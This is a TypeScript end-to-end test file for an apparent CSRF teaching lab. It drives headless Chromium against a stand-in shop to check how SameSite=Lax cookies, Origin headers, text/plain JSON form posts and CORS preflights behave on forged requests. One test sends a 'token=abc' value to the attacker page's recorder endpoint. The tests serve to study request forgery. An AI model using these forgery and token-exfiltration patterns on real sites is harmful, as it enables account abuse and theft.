// The attacker site in a real browser: what Chromium attaches to each forged request, from
// another site (http://localhost:<port>) and from the same site on another port
// (http://127.0.0.1:<port>). A stand-in shop on the lab's origin sets a SameSite=Lax cookie, as
// session-api does, and records what arrives; the backends' own refusals are tested beside them.
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import express from "express";
import { type BrowserContext, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApp } from "./app";
import type { ForgeryReport } from "./forge-page";

const chromiumPath = process.env.CHROMIUM_PATH || "/usr/bin/chromium";
const haveChromium = existsSync(chromiumPath);
if (!haveChromium)
  console.log(`skipped: the attacker's browser tests; no Chromium at ${chromiumPath}`);

interface Arrival {
  method: string;
  path: string;
  origin: string | null;
  contentType: string | null;
  cookies: string[];
  body: string;
}

let lab: { url: string; close(): Promise<void> };
let attackerPort: number;
let closeAttacker: () => Promise<void>;
let browser: { context: BrowserContext; close(): Promise<void> };
let page: Page;
const arrivals: Arrival[] = [];

/** Listens on 127.0.0.1 and a free port; `localhost` reaches it too. */
async function listen(app: express.Express) {
  const server = app.listen(0, "127.0.0.1");
  await new Promise<void>((resolve) => server.once("listening", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    close: () => {
      server.closeAllConnections();
      return new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/** The stand-in shop: a lab page, a login that sets a Lax cookie, and a cart that records. */
function standInShop(): express.Express {
  const app = express();
  app.get("/", (_req, res) => {
    res.type("html").send("<!doctype html><title>lab</title><h1>lab</h1>");
  });
  app.post("/api/session/auth/login", (_req, res) => {
    res.cookie("sid", "stand-in", { httpOnly: true, sameSite: "lax", path: "/api/session" });
    res.status(204).end();
  });
  app.all("/api/:mode/cart/items", express.text({ type: () => true }), (req, res) => {
    arrivals.push({
      method: req.method,
      path: req.path,
      origin: req.get("origin") ?? null,
      contentType: req.get("content-type") ?? null,
      cookies: (req.get("cookie") ?? "").split(";").flatMap((pair) => {
        const name = pair.split("=")[0]?.trim();
        return name ? [name] : [];
      }),
      body: typeof req.body === "string" ? req.body : "",
    });
    res.status(403).json({ error: { code: "csrf", message: "stand-in" } });
  });
  return app;
}

/** Frames the attacker page in the lab page and waits for its report. */
async function forge(attackerHost: "localhost" | "127.0.0.1", query: string) {
  const src = `http://${attackerHost}:${attackerPort}/forge?${query}`;
  // Runs in the lab page (a string: this file is type-checked without the DOM's types).
  const script = `new Promise((resolve) => {
    addEventListener("message", (event) => resolve({ from: event.origin, data: event.data }), { once: true });
    const frame = document.createElement("iframe");
    frame.src = ${JSON.stringify(src)};
    document.body.append(frame);
  })`;
  return (await page.evaluate(script)) as { from: string; data: ForgeryReport };
}

/** Waits until `count` requests reached the cart (a form's arrives after its frame loads). */
async function arrivalsAfter(count: number): Promise<Arrival[]> {
  for (let waited = 0; arrivals.length < count && waited < 15_000; waited += 50) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return arrivals.splice(0);
}

describe.skipIf(!haveChromium)("the attacker page in Chromium", () => {
  beforeAll(async () => {
    const shop = await listen(standInShop());
    lab = { url: `http://127.0.0.1:${shop.port}`, close: shop.close };
    const attacker = await listen(createApp({ config: { labOrigin: lab.url } }));
    attackerPort = attacker.port;
    closeAttacker = attacker.close;
    const profileDir = await mkdtemp(path.join(tmpdir(), "attacker-e2e-profile-"));
    const context = await chromium.launchPersistentContext(profileDir, {
      executablePath: chromiumPath,
      headless: true,
      args: [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
      ],
    });
    browser = {
      context,
      close: async () => {
        await context.close();
        await rm(profileDir, { recursive: true, force: true });
      },
    };
    page = await context.newPage();
    await page.goto(lab.url);
    await page.evaluate(() => fetch("/api/session/auth/login", { method: "POST" }));
  });

  afterAll(async () => {
    await browser?.close();
    await closeAttacker?.();
    await lab?.close();
  });

  it("from another site (localhost), the SameSite=Lax cookie stays home", async () => {
    const { from, data } = await forge("localhost", "mode=session&via=empty&run=cross");
    expect(from).toBe(`http://localhost:${attackerPort}`);
    expect(data).toMatchObject({ source: "attacker", run: "cross", mode: "session", sent: true });
    const [arrival] = await arrivalsAfter(1);
    expect(arrival).toMatchObject({
      method: "POST",
      path: "/api/session/cart/items",
      origin: `http://localhost:${attackerPort}`,
      cookies: [],
    });
  });

  it("from the same site on another port (127.0.0.1), the cookie comes along, and so does Origin", async () => {
    const { data } = await forge("127.0.0.1", "mode=session&via=empty&run=same");
    expect(data).toMatchObject({ run: "same", sent: true });
    const [arrival] = await arrivalsAfter(1);
    expect(arrival?.cookies).toEqual(["sid"]);
    expect(arrival?.origin).toBe(`http://127.0.0.1:${attackerPort}`);
  });

  it("a form can post JSON-looking text/plain with the cookie, but reads no answer", async () => {
    const { data } = await forge("127.0.0.1", "mode=session&via=form&run=form");
    expect(data).toMatchObject({ via: "form", sent: true });
    const [arrival] = await arrivalsAfter(1);
    expect(arrival?.contentType).toMatch(/^text\/plain/);
    expect(JSON.parse(arrival?.body ?? "")).toEqual({
      productId: "claw-hammer",
      quantity: 1,
      pad: "=",
    });
    expect(arrival?.cookies).toEqual(["sid"]);
  });

  it("a real JSON fetch never leaves: the browser asks first, and the shop does not allow it", async () => {
    const { data } = await forge("localhost", "mode=jwt&via=fetch-json&run=json");
    expect(data).toMatchObject({ mode: "jwt", via: "fetch-json", sent: false });
    const seen = await arrivalsAfter(1);
    expect(seen.map((arrival) => arrival.method)).toEqual(["OPTIONS"]);
  });

  it("collects what a script in the lab page sends out, and lets the lab page read it back", async () => {
    const recorder = `http://localhost:${attackerPort}`;
    const records = await page.evaluate(`(async () => {
      await fetch("${recorder}/record", { method: "POST", mode: "no-cors", body: "token=abc" });
      return (await (await fetch("${recorder}/records")).json()).records;
    })()`);
    expect(records).toMatchObject([{ via: "post", data: "token=abc", origin: lab.url }]);
  });
});
